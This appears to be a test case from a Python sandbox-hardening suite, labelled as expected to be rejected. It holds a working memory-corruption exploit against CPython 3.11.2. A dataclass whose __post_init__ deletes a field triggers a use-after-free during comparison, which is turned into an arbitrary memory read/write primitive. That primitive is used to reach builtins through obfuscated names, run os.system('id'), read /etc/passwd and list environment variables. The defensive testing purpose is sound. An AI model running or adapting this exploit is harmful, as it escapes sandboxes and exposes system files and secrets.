# expect: reject memory
# line: 25
# why: round 71 (researcher A): the same through a field deleted by the class's own __post_init__ (no slots): raw memory, then id, /etc/passwd and os.environ under 3.11.2
# variant of a01: no slots; the field is dropped by the class's own __post_init__
# (del self.a), so the generated __eq__'s read of it falls to __getattr__.
from dataclasses import dataclass

N = 25
keep = [None] * 8
state = {"phase": 0, "payload": b"", "n": 0}
got = []
vl = []


@dataclass(order=True)
class D:
    a: int
    b: int

    def __post_init__(self):
        del self.a

    def __getattr__(self, name):
        ph = state["phase"]
        state["n"] = state["n"] + 1
        if ph == 1 and state["n"] == 5:
            state["phase"] = 2
            vl.clear()
            for k in range(8):
                keep[k] = bytearray(state["payload"])
        elif ph == 2 and type(self) is D and len(got) == 0 and self is not x0 and self is not y0 and self is not x1 and self is not y1:
            got.append(self)
        return 0


def w8(v):
    return v.to_bytes(8, "little")


x0 = D(0, 0)
y0 = D(0, 0)
x1 = D(0, 1)
y1 = D(0, 2)
pad = [tuple([i] * N) for i in range(100)]
vl.append(tuple([x0, x1] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(100)]
wl = [tuple([y0, y1] + [0] * (N - 2))]
fake = id(vl[0]) + 48
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(D), 0, 0, 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
state["phase"] = 1
state["phase"] = 0
state["phase"] = 1
state["n"] = 0
print("lt:", vl < wl)
print("got:", len(got))
for B in keep:
    B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = got[0]
print(type(mem).__name__, hex(len(mem)))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))


def r8(a):
    return int.from_bytes(mem[a:a + 8], "little")


def put8(a, v):
    mem[a:a + 8] = w8(v)


def ref(addr):
    cell = [None]
    put8(addr, r8(addr) + 1)
    put8(r8(id(cell) + 24), addr)
    return cell[0]


table = ref(r8(id(w8) + 24))
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print("environ keys:", sorted(osm.environ)[:6])
